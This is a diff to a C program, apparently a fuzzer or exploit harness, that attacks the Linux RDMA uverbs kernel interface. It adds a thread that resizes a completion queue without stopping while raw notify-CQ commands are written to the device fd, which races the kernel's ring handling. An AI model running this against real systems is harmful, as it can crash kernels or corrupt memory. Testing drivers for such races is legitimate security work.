@@ -272,6 +272,34 @@ static void doorbell(struct ibv_qp *qp)
 		err(1, "a doorbell");
 }
 
+/* As no provider does: the system call, while its ring is changed for another. */
+static void arm(struct ibv_cq *cq)
+{
+	struct {
+		struct ib_uverbs_cmd_hdr hdr;
+		struct ib_uverbs_req_notify_cq arm;
+	} cmd = {
+		.hdr.command = IB_USER_VERBS_CMD_REQ_NOTIFY_CQ,
+		.hdr.in_words = sizeof(cmd) / 4,
+		.arm.cq_handle = cq->handle,
+	};
+	int i;
+
+	for (i = 0; i < 16; i++)
+		if (write(cq->context->cmd_fd, &cmd, sizeof(cmd)) < 0)
+			err(1, "arming a CQ");
+}
+
+static void *resizer(void *arg)
+{
+	int i;
+
+	for (i = 0;; i++)
+		if (ibv_resize_cq(arg, i % 2 ? DEPTH : 4 * DEPTH))
+			err(1, "ibv_resize_cq");
+	return NULL;
+}
+
 static void set_state(struct ibv_qp *qp, enum ibv_qp_state state)
 {
 	struct {
@@ -392,16 +420,22 @@ static void attack(const char *dev)
 	struct good good = {};
 	pthread_t thread;
 	struct ibv_qp *qp;
+	struct ibv_cq *cq;
 	int i, garbled;
 
 	attack_open(&a, dev);
 	good_open(&good, a.ctx);
 	garbled = open_device(dev)->cmd_fd;
-	if (pthread_create(&thread, NULL, scribbler, &a))
+	cq = ibv_create_cq(a.ctx, DEPTH, NULL, NULL, 0);
+	if (!cq)
+		err(1, "a CQ");
+	if (pthread_create(&thread, NULL, scribbler, &a) ||
+	    pthread_create(&thread, NULL, resizer, cq))
 		errx(1, "no thread");
 	for (i = 0; i < ROUND_MS; i++) {
 		qp = a.qp[rnd() % QPS];
 		doorbell(qp);
+		arm(cq);
 		garble(garbled);
 		usleep(1000);
 		if (one_in(16))
